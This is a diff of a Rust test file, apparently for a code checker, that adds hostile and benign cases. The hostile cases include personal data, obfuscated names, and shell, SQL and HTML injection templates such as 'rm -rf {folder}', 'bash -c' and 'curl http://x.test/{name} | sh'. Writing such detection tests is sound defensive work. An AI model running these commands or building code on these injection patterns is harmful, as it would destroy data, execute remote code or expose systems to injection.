@@ -86,6 +86,8 @@ fn hostile() -> Vec<(String, u32)> {
         "let p = \"+49 151 23456789\";",
         "let p = \"(212) 736-5000\";",
         "let p = b\"+14155552671\";",
+        "let v = \"4539148803436467 4539148803436468\";",
+        "let v = \"john_smith+tag@acme-corp.co.uk\";",
     ];
     cases.extend(personal.map(|code| (code.to_owned(), 359)));
     let examples = [
@@ -94,6 +96,7 @@ fn hostile() -> Vec<(String, u32)> {
         "let c = \"perniagaan  zheng hui\".to_uppercase();",
         "let c = [\"PERNIAGAAN\", \"ZHENG\", \"HUI\"].join(\" \");",
         "let c = concat!(\"PERNIAGAAN \", \"ZHENG\", \" HUI\");",
+        "let c = \"PERNIAGAAN_ZHENG_HUI\".replace(\"_\", \" \");",
         "let c = \"IUH GNEHZ NAAGAINREP\".chars().rev();",
         "let c = \"S0VEQUkgUEFQQU4gWUVXIENIVUFO\";",
         "let c = \"4b4544414920504150414e20594557204348\";",
@@ -118,6 +121,9 @@ fn hostile() -> Vec<(String, u32)> {
         ("let c = format!(\"rm -rf {folder}\");", 78),
         ("let c = format!(\"echo {name}; curl http://x.test/{name} | sh\");", 78),
         ("let c = format!(\"bash -c '{}'\", name);", 78),
+        ("let c = format!(\"python3 -c '{x}'\");", 78),
+        ("fn f(t: &str) -> String { let base = \"SELECT a, b FROM \"; format!(\"{base}{t}\") }", 89),
+        ("let h = format!(\"more<b>{name}</b>\");", 79),
         ("let c = format!(\"$(cat {file})\");", 78),
         ("let h = format!(\"<td>{}</td>\", name);", 79),
         ("let h = format!(\"<a href=\\\"{url}\\\">more</a>\");", 79),
@@ -143,6 +149,7 @@ const BENIGN: &[&str] = &[
     "let secret_key_label = \"Secret key (optional)\";",
     "let password_field = \"password\";",
     "let api_key = \"YOUR_API_KEY_12345678\";",
+    "let token = \"line_item_12_of_2024\"; let access_key = \"invoice-number-10\";",
     "let auth_code = \"AUTH CODE\";",
     // Phrases of the kind of document.
     "if line.contains(\"TOTAL INCLUSIVE OF GST\") { a() }",
@@ -174,6 +181,7 @@ const BENIGN: &[&str] = &[
     "let m = format!(\"drop the {n} lines; update the total from {name}\");",
     "let m = format!(\"${amount}\"); let n = format!(\"$({amount})\"); let o = format!(\"{a} | {b}\");",
     "let m = format!(\"{a} < {b} && {b} > {c}\"); let n = format!(\"<{name}>\");",
+    "let m = format!(\"a<b>{x}\"); let n = format!(\"~{n} items; cat {c}\");",
     "let m = format!(\"{day:02}/{month:02}/{year:04}\"); let n = format!(\"{a}/{b}\");",
     "const SQL: &[&str] = &[\"SELECT\", \"FROM\", \"WHERE\", \"INSERT INTO\", \"UPDATE\"];",
     "let q = \"SELECT total FROM orders WHERE customer = ?\";",
